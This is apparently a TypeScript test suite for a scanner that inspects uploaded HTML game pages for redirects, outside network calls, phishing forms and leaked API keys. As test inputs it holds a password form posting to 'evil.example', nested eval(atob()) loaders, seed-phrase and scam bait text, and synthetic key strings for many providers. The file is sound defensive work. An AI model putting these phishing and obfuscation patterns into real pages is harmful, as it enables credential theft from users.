import { expect, test } from 'bun:test'
import { join } from 'node:path'

import { readPage, scan } from './inspection.ts'
import { RULES } from './rules.ts'

const size = 400_000
const fill = (piece: string, before = '', after = '') =>
  before + piece.repeat(Math.ceil(size / piece.length)) + after

test('a clean page has no findings', () => {
  const html = '<!doctype html><title>Snake</title><canvas></canvas><script>let x = 1</script>'
  expect(scan(html)).toEqual({ verdict: 'clean', listable: true, findings: [] })
})

test('findings are sorted by severity, name their rule and have at most 120 characters', () => {
  const html =
    `<img src=a.png>\n<script>location = 'https://e.example'\nnew ` +
    `RTCPeerConnection(${'a, '.repeat(99)})</script>`
  const { verdict, listable, findings } = scan(html)
  expect({ verdict, listable }).toEqual({ verdict: 'warn', listable: false })
  expect(findings.map(({ code, effect, line }) => [code, effect, line])).toEqual([
    ['redirect.script', 'unlist', 2],
    ['net.external', 'warn', 1],
    ['net.webrtc', 'warn', 3],
  ])
  expect(findings[2]?.excerpt).toHaveLength(120)
  expect(findings[0]?.excerpt).toBe("<script>location = 'https://e.example'")
})

test('returns at most 50 findings, one per code and line', () => {
  const many = scan('<script>\nnew RTCPeerConnection()</script>'.repeat(90))
  expect(many.findings).toHaveLength(50)
  expect(
    scan(
      '<script>parent.location = top.location = 1; location = "//a.b"; location = "//c.d"</script>',
    ).findings.filter(({ code }) => code === 'redirect.script'),
  ).toHaveLength(1)
})

test('counts every line break before a finding', () => {
  const html =
    `\r\n\r\n<p>\n\n<!--\n-->\n<script>\n\n/*\n*/ x ` + `= \`\n\`; new RTCPeerConnection()</script>`
  expect(scan(html).findings).toMatchObject([{ code: 'net.webrtc', line: 11 }])
})

test('rule codes are unique', () => {
  const codes = RULES.map(({ code }) => code)
  expect(new Set(codes).size).toBe(codes.length)
})

/**
 * Made to be slow or deep. The test ends, and nothing is thrown; scripts/bench/scan.ts has the
 * times.
 */
const hostile: [string, string][] = [
  ['all <', fill('<')],
  ['all brackets', fill('(', '<script>')],
  ['brackets in a regular expression', fill('(', '<script>/', '/')],
  ['one word', fill('a')],
  ['one name', fill('a', '<script>')],
  ['nested tags', fill('<div><b>')],
  ['many attributes', fill(' a=b', '<p', '>')],
  ['many handler attributes', fill(' onclick=a()', '<p', '>')],
  ['an open comment', fill('-', '<!--')],
  ['an open script comment', fill('*', '<script>/*')],
  ['an open string', fill('\\', '<script>"')],
  ['an open template', fill('${`', '<script>`')],
  ['an open tag', fill('"', '<p a=')],
  ['nested strings', fill('("a"+', '<script>')],
  ['nested evals', fill('eval(atob(', '<script>')],
  ['strings that double', fill('a=a+a;', '<script>a="aaaa";', '</script>')],
  ['a string that grows', fill("h+='<b>';d.write(h);", '<script>h="";', '</script>')],
  ['nested frames', fill('<iframe srcdoc="', '', '<p>')],
  ['keys', fill(' sk-AKIAghp_')],
  ['key frames', fill('-----BEGIN PRIVATE KEY-----\\n')],
  ['password fields', fill('<input type=password>sign in ')],
  ['short lines', fill('<i></i><p>log in', '<input type=password>')],
  ['wallet words', fill('enter your the all ', '<input name=seedphrase>')],
  ['words of false alarms', fill('microsoft your pc virus device call 1 800 ')],
  ['spaces', fill(' ', '<p>ignore')],
  ['unpaired surrogates', fill('\ud800', '<script>"', '"</script>\ud800')],
  [
    'texts that a glue makes longer than any text',
    `<script>x=[${'"",'.repeat(400_000)}""].join("${'y'.repeat(10_000)}")</script>`,
  ],
  ['nested assignments of location', fill('location=', '<script>')],
  ['nested conditions', fill('location=a?(b:', '<script>')],
  ['click handlers that navigate', fill('b.onclick=()=>location="//a.b";', '<script>')],
  ['functions that navigate', fill('function f(){location="//a.b"};b.onclick=f;', '<script>')],
  ['nested functions', fill('function f(a){location=a;f(a);', '<script>')],
  ['nested arrow functions', fill('f=a=>location=a,', '<script>')],
  ['links and clicks', fill('a.href="//b";c.click();', '<a id=x href=//b></a><script>')],
  ['aliases', fill('{location:a}=window;a=self;', '<script>')],
  ['zero bytes', fill('\0', '<script>')],
]

test.each(hostile)('the scan of a page that repeats this ends: %s', (_, html) => {
  expect(scan(html).findings.length).toBeLessThanOrEqual(50)
})

test('nested pages are read to a bounded depth, and then not listed', () => {
  const nest = (html: string, times: number): string =>
    times === 0 ? html : nest(`<script>d.write(atob('${btoa(html)}'))</script>`, times - 1)
  const form = '<form action="https://evil.example"><input type=password></form>'
  expect(scan(nest(form, 2)).verdict).toBe('block')
  expect(scan(nest(form, 9)).listable).toBe(false)
})

test('the text that scripts build is bounded per page, not per script', () => {
  const names = Array.from({ length: 11 }, (_, n) => `const a${n + 1}=a${n}+a${n};`).join('')
  const scripts = Array.from(
    { length: 40 },
    (_, n) => `<script>const a0="${'x'.repeat(990)}${n}";${names}</script>`,
  )
  const glued = `<script>x=[${"'',".repeat(990)}''].join("${'y'.repeat(4_000)}")</script>`
  const page = readPage(scripts.join('') + glued.repeat(4))
  const built = page.literals.reduce((sum, { value }) => sum + value.length, 0)
  expect(built).toBeLessThan(8 * 1_048_576)
})

test('the sample games are clean', async () => {
  const root = join(import.meta.dir, '../../../public/samples')
  const pages = await Array.fromAsync(new Bun.Glob('*/index.html').scan(root))
  expect(pages.length).toBeGreaterThan(0)
  for (const page of pages) {
    const { verdict, findings } = scan(await Bun.file(join(root, page)).text())
    expect({ page, verdict, findings }).toEqual({ page, verdict: 'clean', findings: [] })
  }
})

/** Made up while the test runs, so that no file of ours holds what looks like a key. */
const mixed = 'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zC'
const upper = 'Q7ZK2M9XW4T8B3VN'
const live: [string, string][] = [
  ['Anthropic', `sk-ant-api03-${mixed}${mixed}`],
  ['OpenAI', `sk-proj-${mixed}${mixed}`],
  ['OpenAI, older', `sk-${mixed.slice(0, 20)}T3BlbkFJ${mixed.slice(0, 20)}`],
  ['AWS', `AKIA${upper}`],
  ['GitHub', `ghp_${mixed}Wq8z`],
  ['Slack', `xoxb-${mixed}`],
  ['Stripe', `sk_live_${mixed}`],
  ['Google', `AIza${mixed}x-7`],
  ['Hugging Face', `hf_${mixed}Zq`],
  ['Telegram', `123456789:AA${mixed}Q`],
  ['ours', `ak_${mixed}Kq3Zt9Xb`],
]

test.each(live)('finds a key: %s', (_, key) => {
  const { verdict, findings } = scan(`<p>x</p>\n<script>\nconst key = '${key}'\n</script>`)
  expect(verdict).toBe('block')
  expect(findings).toMatchObject([{ code: 'secret.leak', line: 3 }])
  expect(findings[0]?.excerpt).toBe(`const key = '${key.slice(0, 6)}…'`)
})

test('finds a private key and shows only its first line', () => {
  const body = `${mixed}\n`.repeat(8)
  const key = `-----BEGIN RSA PRIVATE KEY-----\n${body}-----END RSA PRIVATE KEY-----`
  expect(scan(`<pre>\n${key}`).findings).toMatchObject([
    { code: 'secret.leak', line: 2, excerpt: '-----BEGIN RSA PRIVATE KEY-----…' },
  ])
  expect(scan(`<script>k = ${JSON.stringify(key)}</script>`).verdict).toBe('block')
})

test('finds a private key as short as those of Ed25519', () => {
  const body = `MC4CAQAwBQYDK2VwBCIEI${mixed}Kq3Zt9Xb7Wm`
  expect(body).toHaveLength(64)
  const key = `-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----\n`
  expect(scan(`<script>k = ${JSON.stringify(key)}</script>`).findings).toMatchObject([
    { code: 'secret.leak', line: 1 },
  ])
  expect(scan(`<pre>\n${key}</pre>`).findings).toMatchObject([{ code: 'secret.leak', line: 2 }])
})

test('finds keys in comments and in pieces', () => {
  expect(scan(`<!-- AKIA${upper} -->`).verdict).toBe('block')
  expect(scan(`<script>k = 'AKIA' + '${upper}'</script>`).verdict).toBe('block')
})

test('masks a key in the excerpt of another finding', () => {
  const html = `<script>fetch('https://api.example/?k=AKIA${upper}')</script>`
  for (const { excerpt, help } of scan(html).findings) {
    expect(excerpt).not.toContain(upper)
    expect(help).not.toContain(upper)
  }
  expect(scan(html).findings.map(({ code }) => code)).toEqual(['secret.leak', 'net.external'])
})

const examples: [string, string][] = [
  ['the AWS example', 'AKIAIOSFODNN7EXAMPLE'],
  ['a placeholder', `sk-${'x'.repeat(48)}`],
  ['words in place of a key', 'sk-your-api-key-goes-here-please-and-thank-you'],
  ['counting', 'ghp_1234567890abcdefghijABCDEFGHIJ123456'],
  ['a test key', `sk_test_${mixed}`],
  ['a public key', `pk_live_${mixed}`],
  ['an empty frame', '-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----'],
  ['inside base64', `${mixed}AKIA${upper}${mixed}`],
  ['a style', 'mask-image risk-assessment task-abcdefabcdefabcdefabcdefabcdefabcdef'],
]

test.each(examples)('allows: %s', (_, text) => {
  expect(scan(`<pre>${text}</pre>`).verdict).toBe('clean')
})

test('allows a Google key that is public by design', () => {
  const config = `{ apiKey: 'AIza${mixed}x-7', authDomain: 'x.firebaseapp.com' }`
  expect(scan(`<script>init(${config})</script>`).verdict).toBe('clean')
})
